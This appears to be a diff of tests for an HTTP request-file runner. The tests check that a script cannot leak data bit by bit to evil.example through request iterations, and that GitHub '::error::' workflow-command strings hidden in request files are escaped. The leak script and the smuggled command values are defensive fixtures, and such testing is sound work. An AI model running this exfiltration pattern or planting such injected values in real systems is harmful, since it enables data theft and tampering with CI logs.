@@ -39,7 +39,7 @@ function run(text: string, args: readonly string[] = [], files: Readonly<Record<
 describe('what a script has read', () => {
   const bits = `# @loop for 14\n< {%\n  const s = ${read};\n  const i = request.iteration();\n  if (!((s.charCodeAt(Math.floor(i / 7)) >> (i % 7)) & 1)) throw 1;\n%}\nGET http://evil.example/{{$index}}\n`;
 
-  it('is told to no other host by what the script does, until the user allows it', async () => {
+  it('reaches no other host by what the script does, until the user allows it', async () => {
     const { code, error } = await run(bits);
     expect([code, received]).toEqual([3, []]);
     expect(error).toContain(
@@ -128,7 +128,7 @@ describe('what others have written, where GitHub reads the log', () => {
     ['text', []],
     ['json', ['--format', 'json']],
     ['github', ['--format', 'github']],
-  ])('is no command: run, %s', async (_, args) => {
+  ])('becomes no command: run, %s', async (_, args) => {
     const cwd = folderOf({ 'a.http': text() });
     const command = ['run', 'a.http', '--all', ...args];
     const { out, error } = await commandLine(command, { cwd, env: { GITHUB_ACTIONS: 'true' } });
@@ -140,12 +140,13 @@ describe('what others have written, where GitHub reads the log', () => {
   });
 
   it.each([
-    ['check', 'a.http', '--format', 'text'],
-    ['check', 'a.http', '--format', 'frames'],
+    ['check', '--fix-unsafe', '--dry-run', 'a.http'],
     ['explain', 'a.http'],
-  ])('is no command: %s', async (...args) => {
-    const cwd = folderOf({ 'a.http': 'GET /_cluster/health?\n  ::error::a\n\n{ "a": 1, }\n\n::error::b\n' });
+  ])('becomes no command: %s', async (...args) => {
+    const text = 'PUT /_security/api_key\n\n{ "name": "x" "role_descriptors": {} }\n::error::b\n';
+    const cwd = folderOf({ 'a.http': text });
     const { out, error } = await commandLine(args, { cwd, env: { GITHUB_ACTIONS: 'true' } });
+    expect(out + error).toContain(String.raw`:\u003aerror`);
     expect(commandsIn(out + error)).toEqual([]);
   });
 
